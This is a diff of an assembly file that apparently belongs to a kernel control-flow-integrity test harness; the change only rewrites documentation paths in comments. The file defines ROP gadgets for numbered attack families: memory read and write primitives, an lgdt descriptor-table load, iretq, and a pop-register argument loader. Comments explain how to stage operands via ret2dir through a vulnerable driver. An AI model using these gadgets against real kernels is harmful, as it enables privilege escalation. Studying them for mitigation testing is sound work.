@@ -25,7 +25,7 @@ gadget_write_mem:           /* *(u64 *)rdi = rsi */
     ret
 
 
-/* ---- Attack families 1-5 (docs/attacks/cr-msr-desc.md): MSR and descriptor-table gadgets. ----
+/* ---- Attack families 1-5 (docs/attacks.md): MSR and descriptor-table gadgets. ----
  * The vulnerable driver's controlled call passes one argument (RDI), so gadgets that need more
  * take a pointer to their operands (staged by the attacker in memory the kernel can read, e.g. the
  * physmap alias of a user page: ret2dir). */
@@ -64,14 +64,14 @@ gadget_lgdt:                /* lgdt (%rdi): load the GDTR from a 10-byte pseudo-
 gadget_iretq:               /* a bare iretq (every kernel's interrupt return): an IDT gate aimed here returns at once */
     iretq
 
-/* ---- Attack families 6-9 (docs/attacks/inject-patch-module-data.md): a kCFG non-target. ---- */
+/* ---- Attack families 6-9 (docs/attacks.md): a kCFG non-target. ---- */
     .balign 16
     .globl gadget_read_mem
 gadget_read_mem:            /* return *(u64 *)rdi: the "mov (%rdi),%rax; ret" tail of every getter; not a kCFG target */
     mov (%rdi), %rax
     ret
 
-/* ---- Attack families 10-11 (docs/attacks/secret-undo.md) ---- */
+/* ---- Attack families 10-11 (docs/attacks.md) ---- */
     .balign 16
     .globl gadget_pop_rdi_rsi_rdx
 gadget_pop_rdi_rsi_rdx:     /* the argument-loading step of a ROP chain (three "pop reg; ret" in one) */
